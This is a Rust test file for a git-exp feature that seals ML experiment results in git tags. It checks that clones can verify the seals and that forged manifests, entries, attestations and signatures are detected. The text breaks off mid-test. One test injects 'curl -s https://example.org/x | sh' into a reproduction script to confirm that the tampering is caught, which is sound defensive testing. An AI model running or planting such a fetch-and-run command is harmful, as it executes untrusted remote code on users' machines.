//! Seals: what goes in, what a clone of the tag alone can prove, and which changes are found.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use serde_json::Value;

use crate::lab::TestLab;

/// The experiment `A-001` with three seeds a side, decided and done; its worktree is the main one.
fn done() -> TestLab {
    let lab = undecided();
    let because = "a lower loss; the accuracy falls by less than anybody sees";
    lab.exp_ok(["decide", "A-001", "accept", "--because", because, "--next", "more seeds"]);
    lab
}

/// The same, before anything was decided.
fn undecided() -> TestLab {
    undecided_and_seen(|_| {})
}

/// The same, with something that happens after the brief and before the first run of the experiment.
fn undecided_and_seen(happens: impl FnOnce(&TestLab)) -> TestLab {
    let lab = TestLab::with_commit();
    lab.write("exp.toml", "[metrics.val_loss]\nbetter = \"lower\"\nkind = \"quality\"\nmin-effect = 0.05\n");
    lab.script("train.sh", "echo \"METRIC val_loss=$(($1 + GIT_EXP_SEED))\"");
    lab.commit_all("a model");
    lab.exp_ok(["topic", "new", "mixing", "--prefix", "A", "--goal", "a lower loss"]);
    let brief = ["--hypothesis", "h", "--change", "a better mix", "--accept", "val_loss <= -5%"];
    let rest = ["--no-guard", "a test", "--budget", "runs=50", "--topic", "mixing", "--baseline", "main"];
    let more = ["--trials", "3", "--no-worktree"];
    lab.exp_ok(["new", "first"].iter().chain(&brief).chain(&rest).chain(&more));
    happens(&lab);
    lab.exp_ok(["run", "-n", "3", "--", "./train.sh", "2000"]);
    lab.git(["switch", "--quiet", "exp/A-001"]);
    lab.script("train.sh", "echo \"METRIC val_loss=$(($1 - 500 + GIT_EXP_SEED))\"");
    lab.commit_all("a better mix");
    lab.exp_ok(["run", "-n", "3", "--", "./train.sh", "2000"]);
    lab.set_clock("2026-11-21T13:00:00Z");
    lab.exp(["run", "--label", "broken", "--", "false"]);
    lab
}

/// A clone of one tag alone, on a machine that knows nobody.
pub struct Clone {
    folder: tempfile::TempDir,
    lab: TestLab,
}

impl Clone {
    pub fn of(lab: &TestLab, tag: &str) -> Self {
        Self::with(lab, tag, &[])
    }

    /// One that `git clone` was given more words for.
    fn with(lab: &TestLab, tag: &str, more: &[&str]) -> Self {
        let folder = tempfile::tempdir().expect("a temporary folder");
        fs::create_dir(folder.path().join("home")).expect("the folder is empty");
        let clone = Self { folder, lab: TestLab::without_repository() };
        let from = format!("file://{}", lab.path().display());
        let words = ["clone", "--quiet", "--no-local", "--single-branch", "--branch", tag];
        let output = clone.command("git", &[&words[..], more, &[from.as_str(), "clone"]].concat(), "");
        assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
        clone
    }

    pub fn path(&self) -> PathBuf {
        self.folder.path().join("clone")
    }

    pub fn command(&self, program: &str, words: &[&str], below: &str) -> Output {
        self.prepared(program, words, below).output().expect("it can be started")
    }

    pub fn prepared(&self, program: &str, words: &[&str], below: &str) -> Command {
        let mut command: Command = self.lab.command([program]);
        command.args(words).current_dir(self.folder.path().join(below));
        command.env("HOME", self.folder.path().join("home")).env_remove("GIT_CONFIG_GLOBAL");
        command.env("GIT_CEILING_DIRECTORIES", self.folder.path());
        for role in ["AUTHOR", "COMMITTER"] {
            command
                .env(format!("GIT_{role}_NAME"), "Nobody")
                .env(format!("GIT_{role}_EMAIL"), "nobody@example.org");
        }
        command
    }

    pub fn git(&self, words: &[&str]) -> String {
        let output = self.command("git", words, "clone");
        assert!(output.status.success(), "{words:?}: {}", String::from_utf8_lossy(&output.stderr));
        String::from_utf8_lossy(&output.stdout).trim().to_owned()
    }

    /// What `verify` says of the tag: the exit status and its object.
    pub fn verify(&self, tag: &str) -> (Option<i32>, Value) {
        let output = self.command("git-exp", &["--json", "verify", tag], "clone");
        let text = String::from_utf8_lossy(&output.stdout).into_owned();
        let view = serde_json::from_str(&text)
            .unwrap_or_else(|_| panic!("not JSON: {text}{}", String::from_utf8_lossy(&output.stderr)));
        (output.status.code(), view)
    }

    /// Commits the worktree as it is and moves the tag there, with the message that it had.
    fn reseal(&self, tag: &str) {
        let message = self.git(&["for-each-ref", "--format=%(contents)", &format!("refs/tags/{tag}")]);
        self.reseal_with(tag, &message);
    }

    fn reseal_with(&self, tag: &str, message: &str) {
        let parents = self.git(&["show", "--no-patch", "--format=%P", &format!("{tag}^{{commit}}")]);
        self.git(&["add", "--all", "--force"]);
        let tree = self.git(&["write-tree"]);
        let parents = parents.split(' ').flat_map(|it| ["-p", it]);
        let words: Vec<&str> = ["commit-tree", &tree, "-m", "moved"].into_iter().chain(parents).collect();
        let commit = self.git(&words);
        self.git(&["tag", "--force", "--annotate", "-m", message, tag, &commit]);
    }
}

/// What failed, as `check subject`.
fn failures(view: &Value) -> Vec<String> {
    let all = view["failures"].as_array().expect("a list");
    let text = |it: &Value, name: &str| it[name].as_str().expect("a text").to_owned();
    all.iter().map(|it| format!("{} {}", text(it, "check"), text(it, "subject"))).collect()
}

/// The files of the bundle, from the top of the clone.
fn bundle(top: &Path) -> Vec<PathBuf> {
    let mut files = Vec::new();
    let mut open = vec![top.join(".exp")];
    while let Some(folder) = open.pop() {
        for item in fs::read_dir(folder).expect("a folder") {
            let path = item.expect("an item").path();
            if path.is_dir() {
                open.push(path);
            } else {
                files.push(path.strip_prefix(top).expect("it is below").to_owned());
            }
        }
    }
    files.sort();
    files
}

#[test]
fn a_partial_clone_fetches_what_it_left_out_and_a_shallow_one_says_what_it_lacks() {
    let lab = done();
    lab.exp_ok(["seal", "A-001"]);
    lab.git(["config", "uploadpack.allowFilter", "true"]);
    lab.git(["config", "uploadpack.allowAnySHA1InWant", "true"]);
    for more in [["--filter=blob:none", "--no-checkout"], ["--filter=tree:0", "--no-checkout"]] {
        let clone = Clone::with(&lab, "sealed/A-001", &more);
        let (status, view) = clone.verify("sealed/A-001");
        assert_eq!(failures(&view), [""; 0], "{more:?}: {view}");
        assert_eq!(status, Some(0));
    }
    for depth in 1..=4 {
        let shallow = Clone::with(&lab, "sealed/A-001", &["--depth", &depth.to_string()]);
        let (status, view) = shallow.verify("sealed/A-001");
        // Where not even the code of both sides is here, more is missing than history.
        let expected = match depth {
            1 => Some(1),
            2 => Some(4),
            // The baseline is the second commit, and so has all of its history.
            _ => Some(if shallow.path().join(".git/shallow").exists() { 4 } else { 0 }),
        };
        assert_eq!(status, expected, "depth {depth}: {view}");
        assert_eq!(view["verified"], expected == Some(0), "{view}");
        let told = view["unchecked"].to_string().contains("git fetch --unshallow");
        assert_eq!(told, expected != Some(0), "{view}");
        assert_eq!(view["checked"].to_string().contains("all "), expected == Some(0), "{view}");
    }
    let shallow = Clone::with(&lab, "sealed/A-001", &["--depth", "2"]);
    let output = shallow.command("git-exp", &["verify", "A-001"], "clone");
    let said = String::from_utf8_lossy(&output.stdout).into_owned();
    assert!(said.starts_with("sealed/A-001 is what was sealed, as far as it could be looked at\n"), "{said}");
    assert!(said.contains("\n  not looked at: older history: this clone is a shallow one"), "{said}");
    shallow.git(&["fetch", "--quiet", "--unshallow"]);
    assert_eq!(shallow.verify("sealed/A-001").0, Some(0));
}

#[test]
fn a_clone_of_the_tag_alone_proves_the_seal() {
    let lab = done();
    insta::assert_snapshot!(lab.exp(["seal", "A-001", "-m", "what we ship"]), @"
    exit: 0
    --- stdout
    sealed/A-001: 9 entries and 29 files sealed, not signed
    manifest <id 2>
    --- stderr
    hint: `git push <remote> sealed/A-001` hands it over; `git exp verify sealed/A-001` proves it
    ");
    assert_eq!(lab.exp_json(["show", "A-001"])[0]["sealed"], serde_json::json!(["sealed/A-001"]));
    lab.git(["remote", "add", "hub", "../hub.git"]);
    let again = lab.exp_output(["seal", "A-001"]);
    let said = String::from_utf8_lossy(&again.stderr).into_owned();
    assert!(said.contains("`git push hub sealed/A-001`"), "{said}");
    let clone = Clone::of(&lab, "sealed/A-001");
    let (status, view) = clone.verify("sealed/A-001");
    assert_eq!(failures(&view), [""; 0], "{view}");
    assert_eq!(status, Some(0));
    assert_eq!(view["signature"], "none");
    assert_eq!(view["experiment"], "A-001");
    assert!(clone.path().join("train.sh").exists(), "the code is there");
    let stored = fs::read_to_string(clone.path().join(".exp/comparison.json")).expect("a comparison");
    assert_eq!(stored, lab.exp_ok(["compare", "A-001", "--json"]), "it is what `compare` says");
    let readme = fs::read_to_string(clone.path().join(".exp/README.md")).expect("a page");
    let wanted = [
        "hypothesis: h",
        "./train.sh 2000",
        "seeds 1, 2, 3",
        "1 failed",
        "**accept**",
        "| val_loss |",
        "**accepted**",
        "next: more seeds",
        "accelerators used",
    ];
    for text in wanted {
        assert!(readme.contains(text), "no `{text}` in:\n{readme}");
    }
    let output = clone.command("git-exp", &["verify", "A-001"], "clone");
    insta::assert_snapshot!(lab.steady(&String::from_utf8_lossy(&output.stdout)), @"
    sealed/A-001 is what was sealed
      28 files are as the manifest names them
      9 entries are what their IDs are made of, and 7 runs cite the briefs that they ran under
      the code of both sides is there, 40 objects of it whole
      `repro.sh` runs what the entries say
      all 46 objects of the history are whole
      the comparison follows from the runs
    ");
}

#[test]
fn the_commands_can_be_run_again_from_a_clone_without_git_exp() {
    let lab = done();
    lab.exp_ok(["seal", "A-001"]);
    let clone = Clone::of(&lab, "sealed/A-001");
    let output = clone.command("sh", &[".exp/repro.sh"], "clone");
    let text = String::from_utf8_lossy(&output.stdout).into_owned();
    assert_eq!(
        text,
        "== baseline, seed 1: ./train.sh 2000\nMETRIC val_loss=2001\n   recorded: ok\n   val_loss: 2001 recorded, 2001 here\n\
         == baseline, seed 2: ./train.sh 2000\nMETRIC val_loss=2002\n   recorded: ok\n   val_loss: 2002 recorded, 2002 here\n\
         == baseline, seed 3: ./train.sh 2000\nMETRIC val_loss=2003\n   recorded: ok\n   val_loss: 2003 recorded, 2003 here\n\
         == candidate, seed 1: ./train.sh 2000\nMETRIC val_loss=1501\n   recorded: ok\n   val_loss: 1501 recorded, 1501 here\n\
         == candidate, seed 2: ./train.sh 2000\nMETRIC val_loss=1502\n   recorded: ok\n   val_loss: 1502 recorded, 1502 here\n\
         == candidate, seed 3: ./train.sh 2000\nMETRIC val_loss=1503\n   recorded: ok\n   val_loss: 1503 recorded, 1503 here\n\
         == candidate, seed none: false\nit ended with 1\n   recorded: failed\n"
    );
}

#[test]
fn the_same_state_gives_the_same_tree_and_is_sealed_once() {
    let lab = done();
    let first = &lab.exp_json(["seal", "A-001"])[0];
    assert_eq!(first["already"], false);
    lab.set_clock("2026-11-22T08:30:00Z");
    let again = lab.exp_output(["seal", "A-001", "-m", "once more"]);
    let said = String::from_utf8_lossy(&again.stdout);
    assert_eq!(again.status.code(), Some(0));
    assert!(said.starts_with("already sealed as sealed/A-001, not signed\n"), "{said}");
    assert_eq!(lab.git(["tag", "--list"]), "sealed/A-001\n", "there is no second tag");
    let again = &lab.exp_json(["seal", "A-001"])[0];
    assert_eq!((&again["already"], &again["commit"]), (&true.into(), &first["commit"]));

    lab.git(["tag", "--delete", "sealed/A-001"]);
    let anew = &lab.exp_json(["seal", "A-001", "-m", "once more"])[0];
    assert_eq!((&anew["tag"], &anew["already"]), (&"sealed/A-001".into(), &false.into()));
    assert_eq!(first["tree"], anew["tree"]);
    assert_eq!(first["manifest"], anew["manifest"]);
    assert_ne!(first["commit"], anew["commit"]);
    lab.exp_ok(["note", "A-001", "it was quiet"]);
    let next = &lab.exp_json(["seal", "A-001"])[0];
    assert_eq!(next["tag"], "sealed/A-001-2");
    assert_ne!(first["manifest"], next["manifest"], "there is one more entry");
    assert_eq!(lab.exp_output(["verify", "sealed/A-001-2"]).status.code(), Some(0));
}

#[test]
fn a_state_is_sealed_again_only_where_more_is_asked_for_than_its_seal_has() {
    let lab = done();
    let sealed = |words: &[&str]| {
        let words: Vec<&str> = ["seal", "A-001"].iter().chain(words).copied().collect();
        let view = lab.exp_json(words).remove(0);
        (view["tag"].as_str().expect("a tag").to_owned(), view["already"] == true)
    };
    let (first, second, third) = ("sealed/A-001", "sealed/A-001-2", "sealed/A-001-3");
    assert_eq!(sealed(&["--max-size", "1"]), (first.to_owned(), false));
    assert_eq!(sealed(&["--max-size", "1"]), (first.to_owned(), true));
    assert_eq!(sealed(&[]), (second.to_owned(), false), "with files that the first has by hash only");
    assert_eq!(sealed(&[]), (second.to_owned(), true));
    assert_eq!(sealed(&["--max-size", "1"]), (first.to_owned(), true));
    assert_eq!(sealed(&["--attest"]), (third.to_owned(), false), "with an attestation");
    for words in [&["--attest"][..], &["--attest", "--max-size", "1"]] {
        assert_eq!(sealed(words), (third.to_owned(), true));
    }
    lab.git(["tag", "--delete", first, second]);
    assert_eq!(sealed(&["--max-size", "1"]), (third.to_owned(), true), "it has more");
    let said = lab.exp_output(["seal", "A-001", "--max-size", "1"]);
    let said = String::from_utf8_lossy(&said.stderr).into_owned();
    assert!(said.contains("more than was asked for"), "{said}");
    lab.exp_ok(["note", "A-001", "it was quiet"]);
    assert_eq!(sealed(&["--max-size", "1"]), (first.to_owned(), false), "another state");
}

#[test]
fn what_was_put_into_the_script_or_the_attributes_is_found_without_a_signature() {
    let lab = done();
    lab.exp_ok(["seal", "A-001"]);
    let clone = Clone::of(&lab, "sealed/A-001");
    let top = clone.path().join(".exp");
    let digest = |text: &str| blake3::hash(text.as_bytes()).to_hex().to_string();
    let sealed = clone.git(&["rev-parse", "sealed/A-001"]);
    // Everything that no entry vouches for is written anew: the file, the manifest and the tag.
    let forged = |name: &str, change: &dyn Fn(&str) -> String| {
        let manifest = fs::read_to_string(top.join("manifest.json")).expect("a manifest");
        let text = fs::read_to_string(top.join(name)).expect("a file");
        let changed = change(&text);
        assert_ne!(text, changed);
        let row = |text: &str| format!("\"bytes\": {},\n      \"blake3\": \"{}\"", text.len(), digest(text));
        let written = manifest.replacen(&row(&text), &row(&changed), 1);
        assert_ne!(manifest, written);
        fs::write(top.join(name), &changed).expect("the clone is ours");
        fs::write(top.join("manifest.json"), &written).expect("the clone is ours");
        clone.reseal_with("sealed/A-001", &format!("sealed: A-001\n\nManifest: {}\n", digest(&written)));
        let answer = clone.verify("sealed/A-001");
        fs::write(top.join(name), &text).expect("the clone is ours");
        fs::write(top.join("manifest.json"), &manifest).expect("the clone is ours");
        clone.git(&["update-ref", "refs/tags/sealed/A-001", &sealed]);
        answer
    };
    let piped = |text: &str| text.replacen("set -eu\n", "set -eu\ncurl -s https://example.org/x | sh\n", 1);
    let (status, view) = forged("repro.sh", &piped);
    assert_eq!((status, failures(&view)), (Some(1), vec!["file repro.sh".to_owned()]));
    let command = |text: &str| text.replacen("'2000'", "'2001'", 1);
    assert_eq!(forged("repro.sh", &command).0, Some(1));
    let (status, view) = forged(".gitattributes", &|text| text.replacen("-filter", "filter=lfs", 1));
    assert_eq!((status, failures(&view)), (Some(1), vec!["file .gitattributes".to_owned()]));
    // Of rules that this version does not know, it says so.
    let (status, view) = forged("repro.sh", &|text| piped(text).replacen("repro/1", "repro/0", 1));
    assert_eq!((status, failures(&view)), (Some(0), Vec::new()));
    assert!(view["notes"].to_string().contains("read it before you run it"), "{view}");
    let (status, view) = clone.verify("sealed/A-001");
    assert_eq!(status, Some(0));
    assert!(view["checked"].to_string().contains("runs what the entries say"), "{view}");
}

#[test]
fn that_a_brief_came_first_is_proven_by_whoever_saw_it_and_else_claimed() {
    let order = |lab: &TestLab| {
        lab.exp_ok(["seal", "A-001", "--incomplete"]);
        let clone = Clone::of(lab, "sealed/A-001");
        let (status, view) = clone.verify("sealed/A-001");
        assert_eq!((status, failures(&view)), (Some(0), Vec::new()));
        (clone, view["briefs"][0]["order"].clone(), view)
    };
    let (_, claimed, view) = order(&undecided());
    assert_eq!(claimed, "claimed", "{view}");
    assert!(view["notes"].to_string().contains("is claimed"), "{view}");

    let lab = undecided_and_seen(|lab| {
        lab.git(["clone", "--quiet", "--bare", ".", "../remote.git"]);
        lab.git(["remote", "add", "origin", "../remote.git"]);
        lab.exp_ok(["push"]);
        lab.git(["clone", "--quiet", "../remote.git", "../other"]);
        let other = lab.path().parent().expect("a folder").join("other");
        for words in [&["pull"][..], &["note", "A-001", "I read the brief"], &["push"]] {
            let output = lab.exp_command(words).current_dir(&other).output().expect("git-exp starts");
            assert!(output.status.success(), "{words:?}: {}", String::from_utf8_lossy(&output.stderr));
        }
        lab.exp_ok(["pull"]);
    });
    let (clone, proven, view) = order(&lab);
    assert_eq!(proven, "proven", "{view}");
    assert!(view["briefs"][0]["witness"].to_string().contains("ada@example.org"), "{view}");

    // The witness is made to cite another tip, and everything but its entry's bytes is written anew.
    let digest = |text: &str| blake3::hash(text.as_bytes()).to_hex().to_string();
    let (path, manifest) =
        (clone.path().join(".exp/witnesses.json"), clone.path().join(".exp/manifest.json"));
    let text = fs::read_to_string(&path).expect("witnesses");
    let forged = text.replacen("\ntree ", "\nTree ", 1).replacen("\"tree ", "\"Tree ", 1);
    assert_ne!(text, forged);
    fs::write(&path, &forged).expect("the clone is ours");
    let written =
        fs::read_to_string(&manifest).expect("a manifest").replacen(&digest(&text), &digest(&forged), 1);
    fs::write(&manifest, &written).expect("the clone is ours");
    clone.reseal_with("sealed/A-001", &format!("sealed: A-001\n\nManifest: {}\n", digest(&written)));
    let (status, view) = clone.verify("sealed/A-001");
    assert_eq!((status, &view["briefs"][0]["order"]), (Some(1), &"claimed".into()), "{view}");
    assert!(failures(&view).iter().all(|it| it.starts_with("brief ")), "{view}");
}

#[test]
fn an_attestation_says_to_others_what_the_files_are() {
    let lab = done();
    lab.exp_ok(["seal", "A-001", "--attest"]);
    let clone = Clone::of(&lab, "sealed/A-001");
    let path = clone.path().join(".exp/attestation.json");
    let text = fs::read_to_string(&path).expect("a statement");
    let statement: Value = serde_json::from_str(&text).expect("JSON");
    assert_eq!(statement["_type"], "https://in-toto.io/Statement/v1");
    assert_eq!(statement["predicateType"], "https://slsa.dev/provenance/v1");
    for subject in statement["subject"].as_array().expect("a list") {
        let name = subject["name"].as_str().expect("a name");
        let known = clone.command("sha256sum", &[name], "clone");
        let known = String::from_utf8_lossy(&known.stdout).into_owned();
        assert_eq!(known.split(' ').next(), subject["digest"]["sha256"].as_str(), "{name}");
    }
    let (status, view) = clone.verify("sealed/A-001");
    assert_eq!((status, failures(&view)), (Some(0), Vec::new()));
    assert!(view["checked"].to_string().contains("the attestation is of these files"), "{view}");

    // Manifest and tag are written anew, and say nothing of it.
    let digest = |text: &str| blake3::hash(text.as_bytes()).to_hex().to_string();
    let subject = statement["subject"][0]["digest"]["sha256"].as_str().expect("a digest");
    let forged = text.replacen(subject, &"0".repeat(64), 1);
    fs::write(&path, &forged).expect("the clone is ours");
    let manifest = clone.path().join(".exp/manifest.json");
    let written =
        fs::read_to_string(&manifest).expect("a manifest").replacen(&digest(&text), &digest(&forged), 1);
    fs::write(&manifest, &written).expect("the clone is ours");
    clone.reseal_with("sealed/A-001", &format!("sealed: A-001\n\nManifest: {}\n", digest(&written)));
    let (status, view) = clone.verify("sealed/A-001");
    assert_eq!((status, failures(&view)), (Some(1), vec!["attestation .exp/.gitattributes".to_owned()]));
}

#[test]
fn a_file_carries_a_seal_to_a_machine_without_network() {
    let lab = done();
    let said = lab.exp_ok(["seal", "A-001", "--bundle", "../a.bundle"]);
    assert!(said.contains("bundle ../a.bundle"), "{said}");
    let file = lab.path().parent().expect("a folder").join("a.bundle");
    let taken = lab.exp_output(["seal", "A-001", "--bundle", "../a.bundle"]);
    assert_eq!(taken.status.code(), Some(2), "it is not written over");
    lab.exp_ok(["note", "A-001", "another state"]);
    insta::assert_snapshot!(lab.exp(["seal", "A-001", "--bundle", "../no/dir/b.bundle"]), @"
    exit: 2
    --- stderr
    error: cannot write the bundle `../no/dir/b.bundle`
      caused by: there is no folder `../no/dir`
    hint: make the folder first; nothing was sealed
    ");
    assert_eq!(lab.git(["tag", "--list"]), "sealed/A-001\n", "nothing was sealed");

    let clone = Clone::of(&lab, "sealed/A-001");
    let file = file.to_str().expect("a path");
    fs::remove_dir_all(clone.path()).expect("the clone is ours");
    let made = clone.command("git", &["clone", "--quiet", "--branch", "sealed/A-001", file, "clone"], "");
    assert!(made.status.success(), "{}", String::from_utf8_lossy(&made.stderr));
    assert_eq!(clone.verify("sealed/A-001").0, Some(0));

    fs::remove_dir_all(clone.path()).expect("the clone is ours");
    clone.command("git", &["init", "--quiet", "clone"], "");
    clone.git(&["fetch", "--quiet", file, "tag", "sealed/A-001"]);
    assert_eq!(clone.verify("sealed/A-001").0, Some(0));
}

#[test]
fn what_is_not_done_is_sealed_only_as_incomplete_and_says_so() {
    let lab = undecided();
    let refused = lab.exp(["seal", "A-001"]);
    assert!(
        refused.starts_with("exit: 1\n") && refused.contains("decision") && refused.contains("--incomplete"),
        "{refused}"
    );
    assert_eq!(lab.git(["tag", "--list"]), "", "nothing was sealed");
    let sealed = &lab.exp_json(["seal", "A-001", "--incomplete"])[0];
    let missing = sealed["missing"][0].as_str().expect("a text").to_owned();
    assert!(missing.starts_with("decision: "), "{missing}");
    let clone = Clone::of(&lab, "sealed/A-001");
    let readme = fs::read_to_string(clone.path().join(".exp/README.md")).expect("a page");
    assert!(readme.contains("**Incomplete.**"), "{readme}");
    let (status, view) = clone.verify("sealed/A-001");
    assert_eq!((status, failures(&view)), (Some(0), Vec::new()));
    assert!(view["notes"].to_string().contains("sealed as incomplete: decision"), "{view}");
}

#[test]
fn files_that_are_too_long_are_sealed_by_their_hash() {
    let lab = done();
    lab.git(["switch", "--quiet", "research/mixing"]);
    lab.write("exp.toml", lab.read("exp.toml") + "[seal]\nmax-size = 1\n");
    lab.commit_all("small seals");
    lab.exp_ok(["seal", "A-001"]);
    let clone = Clone::of(&lab, "sealed/A-001");
    let files = bundle(&clone.path());
    let kept = files.iter().filter(|it| it.starts_with(".exp/files")).count();
    let (status, view) = clone.verify("sealed/A-001");
    assert_eq!((status, failures(&view)), (Some(0), Vec::new()), "the comparison needs none of them");
    assert!(view["notes"].to_string().contains("known by their hash only"), "{view}");
    lab.exp_ok(["seal", "A-001", "--max-size", "1MB"]);
    let already = lab.exp_ok(["seal", "A-001"]);
    assert!(already.starts_with("already sealed as sealed/A-001,"), "{already}");
    let other = Clone::of(&lab, "sealed/A-001-2");
    assert!(bundle(&other.path()).iter().filter(|it| it.starts_with(".exp/files")).count() > kept);
}

#[test]
fn a_flipped_bit_in_any_file_of_the_bundle_is_found_and_named() {
    let lab = done();
    lab.exp_ok(["seal", "A-001"]);
    let clone = Clone::of(&lab, "sealed/A-001");
    let sealed = clone.git(&["rev-parse", "sealed/A-001"]);
    let files = bundle(&clone.path());
    assert!(files.len() > 20, "{files:?}");
    for (place, file) in files.iter().enumerate() {
        let path = clone.path().join(file);
        let before = fs::read(&path).expect("a file");
        let mut bytes = before.clone();
        let at = (place * 7919) % bytes.len().max(1);
        match bytes.get_mut(at) {
            Some(byte) => *byte ^= 1,
            None => bytes.push(b'x'),
        }
        fs::write(&path, bytes).expect("the clone is ours");
        clone.reseal("sealed/A-001");
        let (status, view) = clone.verify("sealed/A-001");
        assert_eq!(status, Some(1), "{}", file.display());
        let name = file.strip_prefix(".exp").expect("it is in the bundle").display().to_string();
        let is_named = failures(&view).iter().any(|it| it.ends_with(&format!(" {name}")));
        assert!(is_named, "{name}: {view}");
        fs::write(&path, before).expect("the clone is ours");
        clone.git(&["update-ref", "refs/tags/sealed/A-001", &sealed]);
    }
    assert_eq!(clone.verify("sealed/A-001").0, Some(0), "all is as it was");
}

#[test]
fn files_that_are_missing_or_more_and_code_that_is_another_are_found() {
    let lab = done();
    lab.exp_ok(["seal", "A-001"]);
    let clone = Clone::of(&lab, "sealed/A-001");
    let top = clone.path();
    fs::remove_file(top.join(".exp/repro.sh")).expect("it is there");
    fs::write(top.join(".exp/extra"), "x").expect("the clone is ours");
    fs::write(top.join("train.sh"), "echo METRIC val_loss=0\n").expect("the clone is ours");
    clone.reseal("sealed/A-001");
    let (status, view) = clone.verify("sealed/A-001");
    let mut found = failures(&view);
    found.iter_mut().filter(|it| it.starts_with("code ")).for_each(|it| it.truncate(4));
    assert_eq!(
        (status, found),
        (Some(1), ["file repro.sh", "file extra", "code"].map(str::to_owned).to_vec())
    );
    clone.git(&["tag", "--force", "sealed/A-001", "HEAD"]);
    let (status, view) = clone.verify("sealed/A-001");
    assert_eq!((status, failures(&view)), (Some(1), vec!["tag sealed/A-001".to_owned()]));
    clone.git(&["tag", "--annotate", "-m", "no digest", "sealed/B-001", "HEAD"]);
    assert_eq!(clone.verify("sealed/B-001").0, Some(1), "it is the seal of another experiment");
    assert_eq!(clone.command("git-exp", &["verify", "nothing"], "clone").status.code(), Some(2));
}

#[test]
fn a_forger_who_writes_manifest_and_tag_anew_is_given_away_by_the_entries() {
    let lab = done();
    lab.exp_ok(["seal", "A-001"]);
    let clone = Clone::of(&lab, "sealed/A-001");
    let top = clone.path().join(".exp");
    let manifest = fs::read_to_string(top.join("manifest.json")).expect("a manifest");
    let view: Value = serde_json::from_str(&manifest).expect("JSON");
    let paths = view["files"].as_array().expect("a list").iter().filter_map(|it| it["path"].as_str());
    let path = paths
        .filter(|path| path.starts_with("entries/"))
        .map(|path| top.join(path))
        .find(|path| fs::read_to_string(path).is_ok_and(|it| it.contains("\"kind\":\"run\"")))
        .expect("there are runs");
    let text = fs::read_to_string(&path).expect("an entry");
    let forged = text.replacen("\"wall_seconds\":", "\"wall_seconds\":1", 1);
    assert_ne!(text, forged);
    let id = path.file_stem().expect("a name").to_string_lossy().into_owned();
    fs::write(&path, &forged).expect("the clone is ours");
    let row = |text: &str| {
        format!(
            "\"bytes\": {},\n      \"blake3\": \"{}\"",
            text.len(),
            blake3::hash(text.as_bytes()).to_hex()
        )
    };
    let written = manifest.replacen(&row(&text), &row(&forged), 1);
    assert_ne!(manifest, written);
    fs::write(top.join("manifest.json"), &written).expect("the clone is ours");
    let digest = blake3::hash(written.as_bytes()).to_hex().to_string();
    clone.reseal_with("sealed/A-001", &format!("sealed: A-001\n\nManifest: {digest}\n"));
    let (status, view) = clone.verify("sealed/A-001");
    assert_eq!(status, Some(1));
    let found = failures(&view);
    assert!(found.contains(&format!("entry {id}")), "{view}");
    assert!(!found.iter().any(|it| it.starts_with("file ") || it.starts_with("manifest ")), "{view}");
}

#[test]
fn a_signature_shows_who_sealed_and_a_moved_tag_loses_it() {
    let lab = done();
    let key = lab.home().join("key");
    let made = lab.command(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f"]).arg(&key).output();
    if !made.as_ref().is_ok_and(|it| it.status.success()) {
        eprintln!("SKIPPED: no ssh-keygen that makes keys: {made:?}");
        return;
    }
    let public = fs::read_to_string(key.with_extension("pub")).expect("a key");
    let allowed = lab.home().join("allowed");
    fs::write(&allowed, format!("ada@example.org {public}")).expect("the home folder is ours");
    lab.git(["config", "gpg.format", "ssh"]);
    lab.git(["config", "user.signingKey", key.to_str().expect("a path")]);
    lab.git(["config", "tag.gpgSign", "true"]);
    assert_eq!(lab.exp_json(["seal", "A-001"])[0]["signed"], true);
    let clone = Clone::of(&lab, "sealed/A-001");
    let (status, view) = clone.verify("sealed/A-001");
    assert_eq!((status, &view["signature"]), (Some(1), &"bad".into()), "nobody here knows the key: {view}");
    assert_eq!(failures(&view), ["signature sealed/A-001"]);
    clone.git(&["config", "gpg.format", "ssh"]);
    clone.git(&["config", "gpg.ssh.allowedSignersFile", allowed.to_str().expect("a path")]);
    let (status, view) = clone.verify("sealed/A-001");
    assert_eq!((status, &view["signature"]), (Some(0), &"good".into()), "{view}");
    clone.reseal("sealed/A-001");
    let (status, view) = clone.verify("sealed/A-001");
    assert_ne!((status, &view["signature"]), (Some(0), &"good".into()), "{view}");
}

#[test]
fn a_gpg_signature_is_good_unknown_or_lost() {
    let lab = done();
    // Sockets have short names.
    let ring = tempfile::Builder::new().prefix("ring").tempdir().expect("a temporary folder");
    let ring = ring.path().to_str().expect("a path").to_owned();
    let gpg = |words: &[&str]| {
        let mut command = lab.command(["gpg"]);
        command.args(["--batch", "--quiet", "--no-tty", "--pinentry-mode", "loopback", "--passphrase", ""]);
        command.args(words).env("GNUPGHOME", &ring).output()
    };
    let made = gpg(&["--quick-gen-key", "Ada Lovelace <ada@example.org>", "ed25519", "sign", "never"]);
    if !made.as_ref().is_ok_and(|it| it.status.success()) {
        eprintln!("SKIPPED: no gpg that makes keys: {made:?}");
        return;
    }
    let public = gpg(&["--armor", "--export", "ada@example.org"]).expect("gpg starts").stdout;
    lab.git(["config", "tag.gpgSign", "true"]);
    lab.git(["config", "user.signingKey", "ada@example.org"]);
    let mut seal = lab.exp_command(["--json", "seal", "A-001"]);
    let sealed = seal.env("GNUPGHOME", &ring).output().expect("git-exp starts");
    let view: Value = serde_json::from_slice(&sealed.stdout)
        .unwrap_or_else(|_| panic!("{}", String::from_utf8_lossy(&sealed.stderr)));
    assert_eq!(view["signed"], true);

    let clone = Clone::of(&lab, "sealed/A-001");
    let (status, view) = clone.verify("sealed/A-001");
    assert_eq!((status, &view["signature"]), (Some(1), &"bad".into()), "nobody here knows the key: {view}");
    let key = clone.path().join("../key.asc");
    fs::write(&key, public).expect("the folder is ours");
    let learnt = clone.command("gpg", &["--batch", "--quiet", "--import", "key.asc"], "");
    assert!(learnt.status.success(), "{}", String::from_utf8_lossy(&learnt.stderr));
    let (status, view) = clone.verify("sealed/A-001");
    assert_eq!((status, &view["signature"]), (Some(0), &"good".into()), "{view}");

    // The signed text, with another word in it: a tag that Git can read, with a signature of something else.
    let tag = clone.git(&["cat-file", "tag", "sealed/A-001"]) + "\n";
    fs::write(clone.path().join("../forged"), tag.replacen("sealed: A-001", "sealed: A-001!", 1))
        .expect("ours");
    let forged = clone.git(&["hash-object", "-t", "tag", "-w", "../forged"]);
    clone.git(&["update-ref", "refs/tags/sealed/A-001", &forged]);
    let (status, view) = clone.verify("sealed/A-001");
